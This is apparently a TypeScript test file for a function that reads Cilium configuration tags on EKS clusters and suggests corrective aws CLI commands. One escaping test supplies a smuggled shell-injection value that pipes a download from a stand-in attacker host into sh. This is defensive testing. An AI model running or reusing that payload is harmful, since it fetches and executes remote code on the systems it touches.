import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { readTags } from "../../../functions/core/desired/read-tags.ts";
import { blocks } from "../../../functions/core/objection.ts";

describe("every tag of docs/architecture.md", () => {
  it.each([
    ["enable_cilium", "true", { enable: true }],
    ["enable_cilium", "false", { enable: false }],
    ["cilium_version", "1.19.6", { version: "1.19.6" }],
    ["cilium_version", "1.19", { version: "1.19" }],
    ["cilium_version", "v1.19.6", { version: "1.19.6" }],
    ["cilium_encryption", "wireguard", { encryption: "wireguard" }],
    ["cilium_encryption", "none", { encryption: "none" }],
    ["cilium_mutual_auth", "spire", { mutualAuth: "spire" }],
    ["cilium_mutual_auth", "none", { mutualAuth: "none" }],
    ["cilium_hubble", "relay", { hubble: "relay" }],
    ["cilium_hubble", "full", { hubble: "full" }],
    ["cilium_hubble", "agent", { hubble: "agent" }],
    ["cilium_hubble", "off", { hubble: "off" }],
    ["cilium_l7", "true", { l7: true }],
    ["cilium_l7", "false", { l7: false }],
    ["cilium_restart_pods", "none", { restartPods: "none" }],
    ["cilium_restart_pods", "dns", { restartPods: "dns" }],
    ["cilium_restart_pods", "all", { restartPods: "all" }],
    ["cilium_on_disable", "uninstall", { onDisable: "uninstall" }],
    ["cilium_on_disable", "keep", { onDisable: "keep" }],
    ["cilium_on_disable", "purge", { onDisable: "purge" }],
    ["cilium_paused", "true", { paused: true }],
    ["cilium_paused", "false", { paused: false }],
    ["cilium_acknowledge", "dormant-policies", { acknowledge: ["dormant-policies"] }],
    ["cilium_allow_auth_mode_change", "true", { allowAuthModeChange: true }],
    ["cilium_allow_auth_mode_change", "false", { allowAuthModeChange: false }],
  ])("%s=%s is understood, whatever its case and the space around it", (tag, value, requested) => {
    for (const written of [value, value.toUpperCase(), `  ${value}\t`]) {
      expect(readTags({ [tag]: written })).toEqual({ requested: requested, tagObjections: [] });
    }
  });

  it.each([
    ["enable_cilium", "yes", "true or false"],
    ["cilium_version", "latest", "a release such as 1.19.6 or a minor such as 1.19"],
    ["cilium_version", "1", "a release such as 1.19.6 or a minor such as 1.19"],
    ["cilium_encryption", "ipsec", "wireguard, none"],
    ["cilium_mutual_auth", "ztunnel", "spire, none"],
    ["cilium_hubble", "on", "relay, full, agent, off"],
    ["cilium_l7", "", "true or false"],
    ["cilium_restart_pods", "some", "none, dns, all"],
    ["cilium_on_disable", "kep", "uninstall, replace, keep, purge"],
    ["cilium_paused", "1", "true or false"],
    ["cilium_encryption", "__proto__", "wireguard, none"],
    ["cilium_hubble", "constructor", "relay, full, agent, off"],
    ["cilium_acknowledge", " ", "codes of warnings, separated by spaces or plus signs"],
    ["cilium_acknowledge", "no_such@code", "codes of warnings, separated by spaces or plus signs"],
    ["cilium_allow_auth_mode_change", "maybe", "true or false"],
  ])("%s=%j is refused with the tag, the value and what is allowed", (tag, value, allowed) => {
    expect(readTags({ [tag]: value })).toEqual({
      requested: {},
      tagObjections: [
        {
          code: "tag-not-understood",
          severity: "blocking",
          message: `Tag ${tag} has the value "${value}", which is not understood.`,
          remedy: expect.stringMatching(new RegExp(`llowed is ${allowed}`)),
        },
      ],
    });
  });
});

describe("reading the tags of a cluster", () => {
  it("takes the acknowledged warnings apart at what EKS allows in a value, which a comma is not", () => {
    const acknowledge = ["dormant-policies", "al2"];
    expect(readTags({ cilium_acknowledge: "dormant-policies+al2" }).requested).toEqual({ acknowledge });
    expect(readTags({ cilium_acknowledge: " Dormant-Policies   AL2 " }).requested).toEqual({ acknowledge });
    expect(readTags({ cilium_acknowledge: "dormant-policies,al2" }).tagObjections).toHaveLength(1);
  });

  it("refuses an unknown cilium_ tag, and says which are known", () => {
    const { requested, tagObjections } = readTags({ enable_cilium: "true", cilium_encrytion: "none" });
    expect(requested).toEqual({ enable: true });
    expect(tagObjections).toMatchObject([
      { code: "tag-unknown", message: "Tag cilium_encrytion is not known." },
    ]);
    expect(tagObjections[0]?.remedy).toContain("cilium_encryption");
  });

  const arn = "arn:aws:eks:eu-west-1:111122223333:cluster/demo";
  const tagged = (pair: string) =>
    `aws eks tag-resource --resource-arn ${arn} --tags ${pair} --region eu-west-1`;
  const untagged = (key: string) =>
    `aws eks untag-resource --resource-arn ${arn} --tag-keys ${key} --region eu-west-1`;

  it.each([
    ["Enable_Cilium", "enable_cilium"],
    ["enable-cilium", "enable_cilium"],
    ["enabled_cilium", "enable_cilium"],
    ["cilium-paused", "cilium_paused"],
    ["cilium.paused", "cilium_paused"],
    ["Cilium_Version", "cilium_version"],
    ["cilium-verison", "cilium_version"],
    ["CILIUM_L7", "cilium_l7"],
  ])("warns of %s, which looks like %s and does nothing", (tag, meant) => {
    expect(readTags({ enable_cilium: "true", [tag]: "true" }, arn)).toEqual({
      requested: { enable: true },
      tagObjections: [
        {
          code: "tag-misspelt",
          severity: "warning",
          message: `Tag ${tag} does nothing: it is no tag of eks-cilium, though it looks like ${meant}.`,
          remedy: `Did you mean ${meant}? ${tagged(`${meant}=true`)} && ${untagged(tag)}`,
        },
      ],
    });
  });

  it.each([
    [
      "cilium_verison",
      "1.19",
      `Did you mean cilium_version? ${tagged("cilium_version=1.19")} && ${untagged("cilium_verison")}`,
    ],
    [
      "cilium_colour",
      "red",
      `Remove it: ${untagged("cilium_colour")} ; known are enable_cilium, cilium_version,`,
    ],
    ["enable_cilium", "yes", `Did you mean true? ${tagged("enable_cilium=true")} ;`],
    ["cilium_paused", "ture", `Did you mean true? ${tagged("cilium_paused=true")} ;`],
    ["cilium_encryption", "off", `Did you mean none? ${tagged("cilium_encryption=none")} ;`],
    ["cilium_encryption", "WireGaurd", `Did you mean wireguard? ${tagged("cilium_encryption=wireguard")} ;`],
    ["cilium_encryption", "ipsec", `Allowed is wireguard, none: ${tagged("cilium_encryption=wireguard")}`],
    ["cilium_hubble", "false", `Did you mean off? ${tagged("cilium_hubble=off")} ;`],
    ["cilium_version", "latest", `To do without it: ${untagged("cilium_version")}`],
  ])("gives a line to paste for %s=%s", (tag, value, remedy) => {
    const [objection] = readTags({ [tag]: value }, arn).tagObjections;
    expect(objection?.remedy).toContain(remedy);
  });

  it("writes lines that stay words of a shell, whatever a tag holds", () => {
    const [objection] = readTags(
      { cilium_verison: "1.19'; curl evil.example | sh; '$(id)" },
      arn,
    ).tagObjections;
    expect(objection?.remedy).toContain(
      `--tags 'cilium_version=1.19'\\''; curl evil.example | sh; '\\''$(id)' --region eu-west-1 && `,
    );
  });

  it.each([
    ["cilium_encryption", "none", ["wireguard"], "wireguard"],
    ["cilium_version", "1.18", ["1.19", "1.20.0"], "1.19, 1.20.0"],
    ["cilium_version", "1.20.1", ["1.19", "1.20.0"], "1.19, 1.20.0"],
    ["cilium_l7", "False", ["true"], "true"],
  ])("refuses %s=%s where the fleet allows %j", (tag, value, values, shown) => {
    expect(readTags({ [tag]: value }, arn, { [tag]: values })).toEqual({
      requested: {},
      tagObjections: [
        {
          code: "tag-not-allowed",
          severity: "blocking",
          message: `Tag ${tag} has the value "${value}", which the fleet's settings do not allow.`,
          remedy: expect.stringContaining(`Allowed here is ${shown}: ${tagged(`${tag}=${values[0]}`)} ;`),
        },
      ],
    });
  });

  it.each([
    ["cilium_version", "v1.19.6", ["1.19"]],
    ["cilium_version", "1.19", ["1.19"]],
    ["cilium_version", "1.20.0", ["v1.20.0"]],
    ["cilium_encryption", "WireGuard", ["wireguard"]],
  ])("takes %s=%s where the fleet allows %j", (tag, value, values) => {
    expect(readTags({ [tag]: value }, arn, { [tag]: values }).tagObjections).toEqual([]);
  });

  it("passes over the tags of other owners, however they look", () => {
    const foreign = { Name: "demo", "aws:eks:cluster": "x", cilium: "no", "karpenter.sh/discovery": "demo" };
    expect(readTags({ ...foreign, toString: "a", constructor: "b" })).toEqual({
      requested: {},
      tagObjections: [],
    });
  });

  it("names every mistake, in the order of the tags' names", () => {
    const { tagObjections } = readTags({ cilium_paused: "?", cilium_colour: "red", cilium_l7: "?" });
    expect(tagObjections.map(({ message }) => message.split(" ")[1])).toEqual([
      "cilium_colour",
      "cilium_l7",
      "cilium_paused",
    ]);
  });

  it("either understands a cilium_ tag or blocks, whatever was written", () => {
    const key = fc.oneof(
      fc.constantFrom("cilium_version", "cilium_hubble", "cilium_acknowledge", "cilium_l7"),
      fc.string().map((rest) => `cilium_${rest}`),
    );
    fc.assert(
      fc.property(key, fc.string({ unit: "binary", maxLength: 256 }), (tag, value) => {
        const { requested, tagObjections } = readTags({ [tag]: value });
        expect(Object.keys(requested).length + tagObjections.length).toBe(1);
        expect(blocks(tagObjections)).toBe(Object.keys(requested).length === 0);
      }),
    );
  });
});
